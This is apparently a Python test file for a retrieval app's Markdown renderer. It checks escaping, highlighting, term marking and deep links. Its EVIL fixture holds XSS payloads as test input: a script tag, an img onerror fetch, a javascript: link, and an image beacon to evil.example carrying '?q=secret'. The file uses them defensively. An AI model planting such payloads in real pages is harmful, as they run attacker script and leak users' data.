"""Document text and answers become Markdown that can only show text, with highlights."""

from __future__ import annotations

import re
import string
import time

import pytest
from markdown_it import MarkdownIt

from retrieval.ui.render import (
    answer_markdown,
    deep_link,
    escape_markdown,
    find_quote,
    parse_highlight,
    passage_markdown,
    term_spans,
)

EVIL = (
    "Prices rose <script>window.x=1</script> in <img src=x onerror=\"fetch('http://a.b/')\"> "
    "Bolivia. Click [x](javascript:alert(1)) or see ![](http://evil.example/t.png?q=secret) "
    "and <a href='http://evil.example'>this</a>, :red[red] :smile: $x^2$ **bold** www.evil.com "
    "mail me@evil.com\n\n# heading\n\n    code\n| a | b |\n"
)
DIRECTIVE = re.compile(r":(?:orange|blue)-background\[")


def html_of(markdown: str) -> str:
    """CommonMark with raw HTML, linkify and tables on: the most permissive renderer."""
    md = MarkdownIt("commonmark", {"html": True, "linkify": False}).enable("table")
    return md.render(DIRECTIVE.sub("", markdown))


def test_escaped_text_renders_no_tag_link_or_image():
    html = html_of(escape_markdown(EVIL))
    for tag in ("<script", "<img", "<a ", "<a>", "<h1", "<strong", "<code", "<table", "<em"):
        assert tag not in html
    assert "&lt;script&gt;" in html           # shown, not run


def test_bare_urls_and_emails_cannot_autolink():
    escaped = escape_markdown(EVIL).replace("\\", "")
    assert not re.search(r"https?://|www\.|@[\w-]", escaped, re.IGNORECASE)


def test_escaping_keeps_every_visible_character():
    text = "Cost: $5 (≈ €4.6) — 50% off! [1] *really* #1 <b>"
    escaped = escape_markdown(text)
    assert escaped.replace("\\", "").replace("\u2060", "") == text.replace("\\", "")
    assert all(f"\\{ch}" in escaped for ch in set(text) & set(string.punctuation))


def test_quote_is_highlighted_once_and_terms_marked():
    text = "Alpacas live in the high Andes of Peru. Farmers keep alpacas for wool."
    md = passage_markdown(text, quote="Farmers keep alpacas for wool.", query="alpaca wool")
    assert md.count(":orange-background[") == 1
    quoted = md.split(":orange-background[", 1)[1]
    assert quoted.startswith("Farmers keep **alpacas** for **wool**")
    assert md.startswith(":blue-background[Alpacas] live")


def test_highlight_of_malicious_text_stays_inert():
    quote = "Click [x](javascript:alert(1)) or see ![](http://evil.example/t.png?q=secret)"
    md = passage_markdown(EVIL, quote=quote, query="bolivia prices evil")
    assert md.count(":orange-background[") == 1
    html = html_of(md)
    for tag in ("<script", "<img", "<a ", "<h1", "<code"):
        assert tag not in html


def test_quote_found_despite_whitespace_and_with_hint():
    text = "One two.\nThree   four. One two."
    assert find_quote(text, "Three four.") == (9, 22)
    assert find_quote(text, "One two.", hint=23) == (23, 31)
    assert find_quote(text, "absent") is None
    assert find_quote(text, None) is None


def test_term_spans_use_stems_and_ignore_stop_words():
    text = "The ports of Peru; a port opened."
    spans = term_spans(text, "the port")
    assert [text[s:e] for s, e in spans] == ["ports", "port"]
    assert term_spans(text, "the of a") == []


@pytest.mark.parametrize("query", ["(((((", "[a-z]+*", "\\", ".*" * 500, "\x00\x07"])
def test_query_text_is_never_a_pattern(query):
    start = time.perf_counter()
    assert term_spans("a" * 100_000 + " (((((", query) == []
    assert time.perf_counter() - start < 2


def test_adversarial_text_renders_quickly():
    text = '"' * 20 + "A" * 10**6 + "[" * 10_000 + "]" * 10_000
    start = time.perf_counter()
    md = passage_markdown(text, quote="A" * 50, query="aaa")
    assert time.perf_counter() - start < 2
    assert md.count(":orange-background[") == 1


def test_answer_markers_bold_and_text_escaped():
    md = answer_markdown("It opened in 2024 [1], see <b>x</b> [2].")
    assert "**\\[1\\]**" in md and "**\\[2\\]**" in md
    assert "<b>" not in html_of(md)


def test_deep_link_round_trip():
    link = deep_link("a b&c.txt", 7, (120, 180))
    assert link == "?doc=a+b%26c.txt&para=7&hl=120-180"
    assert parse_highlight("120-180") == (120, 180)
    for bad in (None, "", "x-1", "5-2", "12", "-3-4"):
        assert parse_highlight(bad) is None


@pytest.mark.parametrize("space", ["\u00a0", "\u2009", "\u202f", "\u2003", "\u3000", "\u1680"])
def test_every_kind_of_space_is_kept(space):
    """U+00A0 between words is not printable for str.isprintable(): it had been dropped,
    gluing "Cuba is" into "Cubais"."""
    text = f"Cuba{space}is the first country in{space}Latin America"
    assert escape_markdown(text) == text
    shown = passage_markdown(text).replace(space, " ")
    assert shown == "Cuba is the first country in Latin America"


def test_line_and_paragraph_separators_become_spaces():
    assert escape_markdown("one\u2028two\u2029three\x85four") == "one two three four"


def test_a_highlight_keeps_a_word_with_its_punctuation():
    md = passage_markdown("The Port's berth (Chancay) opened.", query="port chancay")
    assert ":blue-background[The]" not in md
    assert ":blue-background[Port\\'s]" in md and ":blue-background[\\(Chancay\\)]" in md
    md = passage_markdown("It rose 5%. Then it fell.", quote="It rose 5")
    assert md.startswith(":orange-background[It rose 5\\%\\.] Then")


def test_two_quotes_of_one_passage_are_both_highlighted():
    text = "Alpacas live in the Andes. They weigh 60 kg. Farmers keep them for wool."
    md = passage_markdown(text, "Alpacas live in the Andes.", None, 0,
                          [("Farmers keep them for wool.", None)])
    assert md == (":orange-background[Alpacas live in the Andes\\.] They weigh 60 kg\\. "
                  ":orange-background[Farmers keep them for wool\\.]")


def test_the_answer_phrase_is_bold_where_it_stands_and_stays_inert():
    from retrieval.ui.render import answer_markdown

    text = "Ships *arrive* in 23 days. [1] The port opened in 2024. [2]"
    out = answer_markdown(text, ["23 days", "opened in\n2024", "not in the answer"])
    assert "**23 days**" in out and "**opened in 2024**" in out
    assert "\\*arrive\\*" in out and out.count("**\\[") == 2
    assert answer_markdown(text) == answer_markdown(text, [])


def test_a_phrase_is_bold_only_in_its_own_cited_sentence():
    from retrieval.ui.render import answer_markdown

    text = "Lima is north of Chancay. [1] Ships sail to Lima weekly. [2]"
    out = answer_markdown(text, ["north", "Lima"])
    assert out.startswith("Lima is **north**")  # not the first sentence's "Lima"
    assert "to **Lima** weekly" in out
